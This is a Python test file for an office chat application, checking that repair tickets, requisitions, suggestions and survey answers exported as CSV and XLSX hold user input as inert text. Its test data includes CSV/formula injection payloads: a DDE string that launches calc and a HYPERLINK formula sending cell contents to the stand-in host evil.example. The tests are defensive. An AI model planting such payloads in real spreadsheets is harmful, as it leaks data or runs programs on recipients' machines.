"""What people type never becomes a spreadsheet formula in what the office exports.

Colleagues type a repair description, a requisition's purpose, a place, a suggestion and a survey
answer that a spreadsheet would run (`=HYPERLINK(...)` leaks the sheet to a stranger's server,
`=cmd|...` asks to start a program); the office exports them through the browser chat as CSV and
as XLSX, and every file holds them as plain text: the words as typed behind an apostrophe, XLSX
cells stored as strings, no formula anywhere. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable

import httpx
import openpyxl

from storage.db import Database
from tests.dialog.test_surveys_web import answers_cleaning_in_chinese
from tests.dialog.web_person import WebPerson

CALC = "=2+5+cmd|' /C calc'!A0"
ADD = "=1+1 给新同事"
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
BASEMENT = "-1F 地下车库入口"  # how people write the first basement floor: text, never a sum
SURVEY_WORDS = "@SUM(1+1)*cmd|' /C calc'!A0"

# What a spreadsheet takes as the start of a formula (or hides one behind).
FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


async def download(client: httpx.AsyncClient, said_files: list[dict[str, str]]) -> bytes:
    [exported] = said_files
    response = await client.get(exported["url"])
    assert response.status_code == 200
    return response.content


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[list[object]]:
    """The cells as a spreadsheet reads them, after checking none of them is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", book.read(name)), f"a formula in {name}"
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    rows: list[list[object]] = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            assert cell.value is None or isinstance(cell.value, int | float) or cell.data_type == "s", cell.coordinate
        rows.append([cell.value for cell in row])
    return rows


def assert_inert(rows: list[list[str]] | list[list[object]]) -> None:
    for row in rows:
        for cell in row:
            if isinstance(cell, str):
                assert not cell.startswith(("\t", "\r")) and not cell.lstrip().startswith(FORMULA_STARTS), repr(cell)


async def exported(
    who: WebPerson, client: httpx.AsyncClient, command: str
) -> tuple[list[list[str]], list[list[object]]]:
    """The same export as CSV and as XLSX, each checked to hold no formula."""
    as_csv = csv_cells(await download(client, (await who.says(f"{command} csv")).files))
    as_xlsx = xlsx_cells(await download(client, (await who.says(f"{command} xlsx")).files))
    assert_inert(as_csv)
    assert_inert(as_xlsx)
    return as_csv, as_xlsx


async def test_what_colleagues_typed_is_exported_as_text_never_as_a_formula(
    db: Database, person: Callable[[str], WebPerson], web_client: httpx.AsyncClient
) -> None:
    wang, chen, liu, lin, admin = (person(k) for k in ("wang.fang", "chen.jing", "liu.yang", "lin.hua", "admin"))
    # 王芳 reports a repair with a description a spreadsheet would run, at a place she types herself.
    await wang.says("/repair")
    await wang.presses("电气照明")
    await wang.presses("行政楼")
    await wang.presses("列表里没有")
    await wang.says(BASEMENT)
    await wang.says(CALC)
    await wang.presses("跳过")
    await wang.presses("一般")
    ticket = re.search(r"R-\d{4}-\d{6}", (await wang.presses("✔ 提交")).text)
    assert ticket is not None
    # 陈静 asks for whiteboard pens for a purpose that starts like a sum.
    await chen.says("/supply 白板笔")
    await chen.presses("黑色白板笔")
    await chen.says("6")
    await chen.presses("✔ 选好了")
    await chen.says(ADD)
    requisition = re.search(r"S-\d{4}-\d{6}", (await chen.presses("✔ 提交")).text)
    assert requisition is not None
    # 刘洋 leaves a signed suggestion that would send the sheet to a stranger's server.
    await liu.says("/suggest")
    await liu.presses("食堂")
    await liu.says(LEAK)
    await liu.presses("跳过")
    await liu.presses("👤 署名")
    await liu.presses("🔐 只给后勤")
    assert "已提交" in await liu.presses("✔ 提交")

    tickets_csv, tickets_xlsx = await exported(lin, web_client, "/export tickets")
    for rows in (tickets_csv, tickets_xlsx):
        [row] = [row for row in rows if row[0] == ticket.group()]
        assert row[4:6] == [f"'{BASEMENT}", f"'{CALC}"]
        assert row[13] in ("0", 0)  # reopened: a count, still a number
    requisitions_csv, requisitions_xlsx = await exported(lin, web_client, "/export requisitions")
    for rows in (requisitions_csv, requisitions_xlsx):
        [row] = [row for row in rows if row[0] == requisition.group()]
        assert row[7] == f"'{ADD}"
        assert row[5] in ("6", 6)  # the quantity stays a number
    suggestions_csv, suggestions_xlsx = await exported(admin, web_client, "/export suggestions")
    for rows in (suggestions_csv, suggestions_xlsx):
        assert [row[3] for row in rows[1:]] == [f"'{LEAK}"]
    # The audit log names what was exported; it is exported the same way.
    await exported(admin, web_client, "/export audit")


async def test_a_survey_answer_is_exported_as_text_by_the_same_writer(
    db: Database, person: Callable[[str], WebPerson], web_client: httpx.AsyncClient
) -> None:
    admin, liu = person("admin"), person("liu.yang")
    await admin.says("/survey import cleaning")
    await admin.says("/survey launch 1 dept:teaching 3")
    assert "匿名答案已收到" in await answers_cleaning_in_chinese(liu, SURVEY_WORDS)

    as_csv = csv_cells(await download(web_client, (await admin.says("/survey export 1 csv")).files))
    as_xlsx = xlsx_cells(await download(web_client, (await admin.says("/survey export 1 xlsx")).files))
    for rows in (as_csv, as_xlsx):
        assert_inert(rows)
        assert rows[1][-1] == f"'{SURVEY_WORDS}"
